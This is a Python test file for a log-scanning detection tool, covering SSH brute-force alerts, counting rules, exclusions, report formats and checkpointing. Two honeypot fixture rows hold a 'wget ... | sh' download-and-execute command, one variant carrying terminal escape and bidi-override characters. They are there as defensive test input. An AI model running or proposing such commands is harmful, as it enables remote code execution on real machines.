"""`ruleforge scan` over logs of other events, and with rules that count or order them."""

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import Result

from ruleforge.app.scan import ScanOptions, follow_files, prepare
from ruleforge.app.scanning.digest import Digest

Run = Callable[..., Result]
LOGIN = "2099-03-04T05:06:{:02}Z gate sshd[{}]: Failed password for root from 192.0.2.10 port 4{:03} ssh2\n"
COUNT = {
    "count": {
        "when": {"field": "path", "op": "path_suffix", "value": "/fruit/press.php"},
        "by": ["source.address"],
        "within": "1m",
        "at_least": 3,
    }
}


@pytest.fixture
def log(tmp_path: Path) -> Path:
    file = tmp_path / "auth.log"
    file.write_text("".join(LOGIN.format(at, at, at) for at in range(12)), "utf-8")
    return file


@pytest.fixture
def requests(put_requests: Callable[..., Path]) -> Path:
    rows = [
        {"target": "/fruit/press.php", "src_ip": "192.0.2.7", "ts": f"2099-01-01T00:00:{at:02}Z"} for at in range(4)
    ]
    return put_requests(*rows)


def test_a_log_of_logins_is_asked_by_the_rules_about_logins(run: Run, log: Path) -> None:
    result = run("scan", "--rules", "builtin", log)
    assert result.exit_code == 1
    assert "2 alerts of rules that count or order: 27 rules over 12 auth_log events." in result.stdout
    assert "RF-AUTH-BRUTE-FORCE" in result.stdout
    assert "4 told by an earlier alert" in result.stdout
    assert "about kinds of events that these files do not hold" in result.stdout


def test_requests_feed_rules_that_count_and_rules_that_do_not(
    run: Run, put_rule: Callable[..., Path], requests: Path
) -> None:
    put_rule("CVE-2099-0001", when=COUNT["count"]["when"])
    put_rule("CVE-2099-0002", when=COUNT)
    result = run("scan", "--rules", "rules", requests, "--format", "json")
    found = json.loads(result.stdout)
    assert [hit["kind"] for hit in found["hits"]] == ["hit"] * 4 + ["count"]
    alert = found["hits"][-1]
    assert (alert["count"], alert["key"], alert["request"]) == (3, {"source.address": "192.0.2.7"}, "r3")
    assert (found["report"]["hits"], found["report"]["alerts"], found["report"]["requests"]) == (4, 1, 4)
    assert found["report"]["not_counted"] == {"told by an earlier alert": 1}


def test_files_of_several_kinds_are_scanned_in_one_go(
    run: Run, put_rule: Callable[..., Path], requests: Path, log: Path
) -> None:
    put_rule("CVE-2099-0001", when=COUNT["count"]["when"])
    when = {"field": "user", "op": "equals", "value": "root"}
    put_rule("CVE-2099-0003", when=when, event="auth_log")
    rows = run("scan", "--rules", "rules", requests, log, "--format", "ndjson").stdout.splitlines()
    assert [json.loads(row)["event"] for row in rows] == ["http.request"] * 4 + ["auth_log"] * 12
    assert {json.loads(row)["source_address"] for row in rows} == {"192.0.2.7", "192.0.2.10"}


@pytest.mark.parametrize("kind", ["md", "sarif", "html", "ecs", "ocsf"])
def test_alerts_are_in_the_other_reports_too(run: Run, log: Path, kind: str) -> None:
    result = run("scan", "--rules", "builtin", log, "--format", kind)
    assert result.exit_code == 1
    assert "RF-AUTH-BRUTE-FORCE" in result.stdout


def test_reports_on_other_events_say_nothing_of_answers(run: Run, tmp_path: Path) -> None:
    row = {"eventid": "cowrie.command.input", "input": "wget http://x.example/a|sh", "session": "s"}
    (tmp_path / "c.json").write_text(json.dumps(row), "utf-8")
    text = run("scan", "--rules", "builtin", "c.json").stdout
    page = run("scan", "--rules", "builtin", "c.json", "--format", "html").stdout
    assert "1 hit: 27 rules over 1 auth_log event." in text
    assert "the answer" not in text
    assert "What the answers say" not in page


def test_a_window_leaves_events_out(run: Run, log: Path) -> None:
    result = run("scan", "--rules", "builtin", log, "--since", "2099-03-04T05:06:06Z", "--format", "json")
    report = json.loads(result.stdout)["report"]
    assert (report["events"], report["outside_window"], report["alerts"]) == ({"auth_log": 6}, 6, 0)


def test_counting_goes_on_from_a_checkpoint(run: Run, log: Path) -> None:
    whole = log.read_text()
    log.write_text("".join(whole.splitlines(keepends=True)[:6]))
    words = ("scan", "--rules", "builtin", log, "--format", "ndjson", "--output", "hits", "--checkpoint", "state")
    assert run(*words).exit_code == 0
    log.write_text(whole)
    assert run(*words).exit_code == 1
    rules = [json.loads(line)["rule"] for line in Path("hits").read_text().splitlines()]
    assert "RF-AUTH-BRUTE-FORCE" in rules


def test_what_attackers_write_in_other_logs_cannot_act_on_the_terminal(run: Run, tmp_path: Path) -> None:
    row = {"eventid": "cowrie.command.input", "input": "wget x\x1b]0,owned\x07|sh \u202e", "session": "\x1b[2J"}
    (tmp_path / "c.json").write_text(json.dumps(row), "utf-8")
    result = run("scan", "--rules", "builtin", "c.json")
    assert result.exit_code == 1
    assert "\x1b" not in result.stdout
    assert "\u202e" not in result.stdout


def test_a_log_of_logins_may_come_through_a_pipe(run: Run, log: Path) -> None:
    result = run("scan", "--rules", "builtin", "-", stdin=log.read_bytes())
    assert "over 12 auth_log events" in result.stdout


def test_a_log_of_logins_that_grows_gives_alerts_while_it_is_followed(log: Path) -> None:
    lines = log.read_text().splitlines(keepends=True)
    log.write_text("".join(lines[:4]))
    rests = [lines[4:9], lines[9:]]

    def wait() -> bool:
        if not rests:
            return False
        with log.open("a") as file:
            file.writelines(rests.pop(0))
        return True

    prepared = prepare(Path("builtin"), ScanOptions(), live=True)
    alerts = list(follow_files(prepared, [log], Digest(), from_start=True, watch=wait))
    assert [(alert.first.rule, alert.first.request) for alert in alerts] == [
        ("RF-AUTH-BRUTE-FORCE", "auth.log:10"),
        ("RF-AUTH-FRUITLESS-CONNECTIONS", "auth.log:10"),
    ]
    assert prepared.report.events == {"auth_log": 12}


def site(**more: str) -> Path:
    file = Path("site.yaml")
    entry = {"rule": "*", "reason": "ours", "expires": "never"} | more
    file.write_text("exclusions:\n- " + "\n  ".join(f"{key}: {json.dumps(value)}" for key, value in entry.items()))
    return file


def test_excluded_events_are_not_counted_and_that_is_told(run: Run, log: Path) -> None:
    words = ("scan", "--rules", "builtin", log, "--exclusions")
    result = run(*words, site(source="192.0.2.10"))
    assert result.exit_code == 0
    assert "events not counted, as the exclusions say" in result.stdout
    report = json.loads(run(*words, site(fields="user=root"), "--format", "json").stdout)["report"]
    assert report["excluded_events"] > 0
    assert list(report["excluded_by"]) == ["every rule at field user=root: ours"]
    other = run(*words, site(rule="RF-AUTH-BRUTE-FORCE", source="192.0.2.10"))
    assert "RF-AUTH-FRUITLESS-CONNECTIONS" in other.stdout
    assert "BRUTE-FORCE  " not in other.stdout


def test_requests_of_a_path_are_kept_from_being_counted(
    run: Run, put_rule: Callable[..., Path], requests: Path
) -> None:
    put_rule("CVE-2099-0002", when=COUNT)
    put_rule("CVE-2099-0003", when={"field": "user", "op": "equals", "value": "root"}, event="auth_log")
    words = ("scan", "--rules", "rules", requests, "--format", "json", "--exclusions")
    report = json.loads(run(*words, site(path="/fruit")).stdout)["report"]
    assert (report["alerts"], report["excluded_events"], report["excluded"]) == (0, 4, 0)
    assert json.loads(run(*words, site(path="/juice")).stdout)["report"]["alerts"] == 1


def test_single_hits_of_other_events_are_excluded(run: Run, put_rule: Callable[..., Path], log: Path) -> None:
    put_rule("CVE-2099-0003", when={"field": "user", "op": "equals", "value": "root"}, event="auth_log")
    found = run("scan", "--rules", "rules", log, "--format", "json", "--exclusions", site(fields="user=ro*"))
    report = json.loads(found.stdout)["report"]
    assert (report["hits"], report["excluded"]) == (0, 12)


def test_alerts_are_rows_of_parquet_with_what_they_counted(run: Run, log: Path) -> None:
    from ruleforge.app.reports.parquet import read_parquet

    assert run("scan", "--rules", "builtin", log, "--format", "parquet", "--output", "a.parquet").exit_code == 1
    rows = list(read_parquet(Path("a.parquet")))
    alert = next(row for row in rows if row["rule"] == "RF-AUTH-BRUTE-FORCE")
    assert (alert["kind"], alert["event"], alert["count"]) == ("count", "auth_log", 10)
    assert alert["key"] == {"source.address": "192.0.2.10"}
    assert alert["start"] == "2099-03-04T05:06:00.000Z"
    assert len(alert["sample"]) == 10


def test_the_older_command_says_where_to_go(run: Run, log: Path) -> None:
    assert "use 'ruleforge scan --rules builtin FILE'" in run("events", log).stderr


@pytest.mark.parametrize("text", ["", "1", "1w", "-5m", "99999999d", "١m"])
def test_a_length_of_time_that_is_none_is_refused(run: Run, log: Path, text: str) -> None:
    result = run("scan", "--rules", "builtin", log, "--max-skew", text)
    assert result.exit_code == 2
    assert "RF151" in result.stderr


def test_a_run_of_many_processes_gives_the_alerts_of_one(
    run: Run, put_rule: Callable[..., Path], requests: Path
) -> None:
    put_rule("CVE-2099-0001", when=COUNT["count"]["when"])
    put_rule("CVE-2099-0002", when=COUNT)
    one = [
        json.loads(line) for line in run("scan", "--rules", "rules", requests, "--format", "ndjson").stdout.splitlines()
    ]
    result = run("scan", "--rules", "rules", "--jobs", "1", "--out", "run", requests, "--format", "json")
    found = json.loads(result.stdout)
    assert result.exit_code == 1
    alert = next(row for row in one if row["kind"] == "count")
    same = ("rule", "kind", "count", "key", "request", "sample", "summary", "severity", "event")
    assert [{name: row[name] for name in same} for row in found["alerts"]] == [{name: alert[name] for name in same}]
    report = found["report"]
    assert (report["hits"], report["alerts"], report["not_counted"]) == (4, 1, {"told by an earlier alert": 1})
    again = run("scan", "--rules", "rules", "--jobs", "1", "--out", "run", "--resume", requests)
    assert "1 alert of rules that count or order" in again.stdout
